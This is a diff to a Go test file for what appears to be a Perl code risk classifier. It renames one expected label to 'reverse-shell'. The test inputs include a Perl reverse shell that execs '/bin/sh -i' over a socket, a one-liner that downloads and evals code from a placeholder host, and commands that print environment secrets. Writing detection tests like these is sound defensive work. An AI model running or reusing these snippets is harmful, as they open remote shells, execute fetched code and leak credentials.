@@ -99,7 +99,7 @@ func TestPerl(t *testing.T) {
 		{`CORE::system("id")`, "shell:id", false},
 		{`kill 9, -1`, "signal:-1", false},
 		{`use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); connect(S,sockaddr_in(1,inet_aton("h"))); open(STDIN,">&S"); exec("/bin/sh ` +
-			`-i")`, "network ? shell:/bin/sh -i tethers", false},
+			`-i")`, "network ? shell:/bin/sh -i reverse-shell", false},
 		{`use LWP::Simple; eval get("http://x.example/a")`, "network downloaded ? fetch:http://x.example/a", false},
 		{`print $ENV{API_TOKEN}`, "secret", false},
 		{`print %ENV`, "secret", false},
